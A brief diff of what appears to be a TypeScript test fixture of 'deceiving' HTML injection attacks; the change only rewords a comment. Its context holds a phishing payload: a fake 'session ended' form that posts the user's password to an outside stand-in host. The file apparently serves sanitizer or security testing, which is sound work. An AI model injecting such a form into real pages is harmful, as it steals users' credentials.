@@ -1,6 +1,6 @@
 import { type Attack, attacks, elsewhere, run } from './attack.ts';
 
-/** What would take input, pose as the page, or get in the way of its scripts. */
+/** Attacks that capture input, imitate the page, or interfere with its scripts. */
 export const deceiving: Attack[] = [
   ...attacks('form', {
     'for a password': `<form action="${elsewhere}/login" method="post">Your session ended. <input name="password" type="password" autofocus><button>Sign in</button></form>`,
